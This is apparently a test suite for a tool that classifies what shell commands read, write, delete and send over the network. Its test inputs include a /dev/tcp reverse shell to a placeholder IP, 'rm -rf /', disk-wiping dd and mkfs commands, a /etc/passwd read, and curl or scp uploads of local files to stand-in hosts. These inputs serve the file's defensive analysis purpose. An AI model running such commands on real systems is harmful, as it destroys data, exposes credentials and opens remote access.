/** What commands read, write, delete and send, seen from a folder. */
import { describe, expect, test } from 'bun:test'
import { type Effects, effectsOf } from './effects.ts'
import { parseScript } from './script.ts'

const LINKS: Readonly<Record<string, string>> = { '/home/u/project/link': '/etc', '/tmp': '/private/tmp' }
const PLACE = {
  cwd: '/home/u/project',
  home: '/home/u',
  worktree: '/home/u/project',
  realpath(path: string): string {
    const link = Object.keys(LINKS).find((one) => path === one || path.startsWith(`${one}/`))
    if (path.includes('missing')) throw new Error('ENOENT')
    return link ? LINKS[link] + path.slice(link.length) : path
  },
}

function effects(source: string): Effects {
  return effectsOf(parseScript(source), PLACE)
}

/** `d /x`: deletes; R behind it: recursively; ? before a path that is not known; n: network, N: sends. */
function lines(source: string): string[] {
  const found = effects(source)
  const files = (['reads', 'writes', 'deletes'] as const).flatMap((role) =>
    found[role].map(
      ({ path, known, recursive }) => `${role[0]} ${known ? '' : '?'}${path}${recursive ? ' R' : ''}`,
    ),
  )
  return [...files, ...found.network.map(({ host, sends }) => `${sends ? 'N' : 'n'} ${host ?? '-'}`)]
}

const TABLES: Readonly<Record<string, Readonly<Record<string, readonly string[]>>>> = {
  paths: {
    'rm a ./b ../c /d': ['d /home/u/project/a', 'd /home/u/project/b', 'd /home/u/c', 'd /d'],
    'rm ~ ~/a $HOME/b "${HOME}/c"': ['d /home/u', 'd /home/u/a', 'd /home/u/b', 'd /home/u/c'],
    "rm '~/a' '$HOME/b'": ['d /home/u/project/~/a', 'd /home/u/project/$HOME/b'],
    'rm ~root/a ~other/b': ['d /root/a', 'd ?/home/other/b'],
    'rm $PWD/a "$(pwd)/b"': ['d /home/u/project/a', 'd /home/u/project/b'],
    'rm "$(git rev-parse --show-toplevel)/a"': ['d /home/u/project/a'],
    'rm /etc/* a/*.c $X/y': ['d ?/etc/*', 'd ?/home/u/project/a/*.c', 'd ?$X/y'],
    'cd /usr && rm a': ['d /usr/a'],
    'cd ~/x; rm a': ['d /home/u/x/a'],
    'cd $X; rm a': ['d ?$X/a'],
    'cat link/passwd': ['r /etc/passwd'],
    'cat /proc/self/root/a /proc/1/task/2/root//b /proc/self/cwd/c /proc/self/status': [
      'r /a',
      'r /b',
      'r /home/u/project/c',
      'r /proc/self/status',
    ],
    'cd /usr; rm -r /proc/self/cwd/a': ['d /usr/a R'],
    'rm link': ['d /home/u/project/link'],
    'rm -r link/': ['d /etc R'],
    'cat /tmp/missing/a': ['r /private/tmp/missing/a'],
    'X=/etc; rm -rf $X/a': ['d /etc/a R'],
    'a && X=/etc; rm -rf $X': ['d ?/etc R'],
  },
  'files that are deleted': {
    'rm -rf a': ['d /home/u/project/a R'],
    'rm -f -r a': ['d /home/u/project/a R'],
    'rm --recur a': ['d /home/u/project/a R'],
    'rm a -R': ['d /home/u/project/a R'],
    'rm --recursive -- -a': ['d /home/u/project/-a R'],
    'rmdir a': ['d /home/u/project/a'],
    'shred -u a': ['w /home/u/project/a', 'd /home/u/project/a'],
    'mv a b': ['r /home/u/project/a', 'w /home/u/project/b', 'd /home/u/project/a'],
    "find a -name '*.c' -delete": ['r /home/u/project/a R', 'd ?/home/u/project/a/**/*.c R'],
    'git clean -fdx': ['d /home/u/project R'],
    'git clean -n': [],
    'git clean -fd -e -n': ['d /home/u/project R'],
    'git clean -nfd --no-dry-run': ['d /home/u/project R'],
    'git clean -fd -e build -n': [],
    'git rm -r a': ['d /home/u/project/a R'],
    'rsync -a --delete a/ b/': ['r /home/u/project/a R', 'w /home/u/project/b R', 'd /home/u/project/b R'],
    'sudo rm -rf /': ['d / R'],
    "ssh h 'rm -rf /'": ['N h'],
    'python -c \'import shutil; shutil.rmtree("/a")\'': ['d /a R'],
    'node -e \'fs.rmSync("/a", { recursive: true })\'': ['d /a R'],
  },
  'files that are written': {
    'echo a > b': ['w /home/u/project/b'],
    'a >> b 2> c &> d': ['w /home/u/project/b', 'w /home/u/project/c', 'w /home/u/project/d'],
    'a > /dev/null 2>&1': [],
    '{ a; b; } > c': ['w /home/u/project/c'],
    'a | tee -a b c': ['w /home/u/project/b', 'w /home/u/project/c'],
    'cp -r a b c': ['r /home/u/project/a R', 'r /home/u/project/b R', 'w /home/u/project/c R'],
    'cp -t c a': ['r /home/u/project/a', 'w /home/u/project/c'],
    'ln -s a b': ['r /home/u/project/a', 'w /home/u/project/b'],
    'dd if=a of=/dev/sda': ['r /home/u/project/a', 'w /dev/sda'],
    'mkfs.ext4 -L x /dev/sda1': ['w /dev/sda1'],
    'sed -i.bak s/a/b/ c': ['r /home/u/project/c', 'w /home/u/project/c'],
    "sed -n '1p' c": ['r /home/u/project/c'],
    'chmod -R 777 a': ['w /home/u/project/a R'],
    'tar xzf a.tgz -C b': ['r /home/u/project/a.tgz', 'w /home/u/project/b R'],
    'tar -czf a.tgz b': ['r /home/u/project/b R', 'w /home/u/project/a.tgz'],
    'unzip a.zip -d b': ['r /home/u/project/a.zip', 'w /home/u/project/b R'],
    'git reset --hard': ['w /home/u/project R'],
    'git checkout -- a': ['w /home/u/project/a R'],
    'git config --global a b': ['w /home/u/.gitconfig'],
    'git config --global --unset a.b': ['w /home/u/.gitconfig'],
    'git config --global --list': [],
    'git config --global a.b': [],
    'git config get --global a.b': [],
    'tar -czf a.tgz -C /b c /d': ['r /b/c R', 'r /d R', 'w /home/u/project/a.tgz'],
    'python -c \'open("a", "w")\'': ['w /home/u/project/a'],
    'python -c \'import shutil; shutil.copy("a", "b")\'': ['w /home/u/project/b'],
    'python -c \'import os; os.replace("a", "/b")\'': ['w /b'],
    'python -c \'import os; os.chdir("/a"); open("b", "w")\'': ['w /a/b'],
    'node -e \'require("fs").renameSync(x, "b")\'': ['w /home/u/project/b'],
    'node -e \'require("fs"); x.replace("a", "/b")\'': [],
  },
  'files that are read': {
    'cat a - < b': ['r /home/u/project/b', 'r /home/u/project/a'],
    'grep -rn x a b': ['r /home/u/project/a R', 'r /home/u/project/b R'],
    'grep -e x a': ['r /home/u/project/a'],
    'head -n 5 a': ['r /home/u/project/a'],
    "awk '{print}' a": ['r /home/u/project/a'],
    'bash a.sh b': ['r /home/u/project/a.sh'],
    'echo a': [],
  },
  network: {
    'curl https://u:p@a.b:8080/c?d': ['n a.b'],
    'curl -o a https://b.c/d': ['w /home/u/project/a', 'n b.c'],
    'curl -d @a https://b.c': ['r /home/u/project/a', 'N b.c'],
    'curl -F f=@a b.c': ['r /home/u/project/a', 'N b.c'],
    'curl -T a b.c': ['r /home/u/project/a', 'N b.c'],
    'curl -XPOST b.c': ['N b.c'],
    'wget -O- b.c/d': ['n b.c'],
    'wget --post-file=a b.c': ['r /home/u/project/a', 'w /home/u/project', 'N b.c'],
    'scp a u@h:b': ['r /home/u/project/a', 'N h'],
    'scp h:a b': ['w /home/u/project/b', 'n h'],
    'nc -l 80': ['N -'],
    'bash -i >& /dev/tcp/1.2.3.4/5 0>&1': ['N 1.2.3.4'],
    'git push git@h.x:a/b main': ['N h.x'],
    'git clone https://h.x/a/b.git': ['w /home/u/project/b R', 'n h.x'],
    'git push origin main': ['N -'],
    'gh pr create': ['N -'],
    'ping -c 1 a.b': ['n a.b'],
    'git status': [],
  },
}

for (const [title, table] of Object.entries(TABLES))
  describe(title, () => {
    for (const [source, expected] of Object.entries(table))
      test(source, () => expect(lines(source)).toEqual([...expected]))
  })

test('the part of a path that is certain', () => {
  const base = (source: string) => effects(source).deletes[0]?.base
  expect(base('rm /etc/*')).toBe('/etc')
  expect(base('rm /etc/a$X/b')).toBe('/etc')
  expect(base('rm *')).toBe('/home/u/project')
  expect(base('rm link/*')).toBe('/etc')
  expect(base('rm $X/a')).toBeUndefined()
  expect(base('cd $X; rm a*')).toBeUndefined()
  expect(base('rm ~/a')).toBe('/home/u/a')
})

test('the disk is not asked about thousands of paths', () => {
  let asked = 0
  const realpath = (path: string) => {
    asked++
    return path
  }
  const source = `cat ${Array.from({ length: 5_000 }, (_, i) => i).join(' ')}`
  const { reads } = effectsOf(parseScript(source), { ...PLACE, realpath })
  expect(reads).toHaveLength(5_000)
  expect([reads[0]?.known, reads.at(-1)?.known]).toEqual([true, false])
  expect(asked).toBeLessThan(1_000)
})

test('an effect names its command', () => {
  const { commands, deletes } = effects('a; sudo rm b')
  expect(commands[deletes[0]?.command ?? -1]).toMatchObject({ program: 'rm', parent: 1 })
})
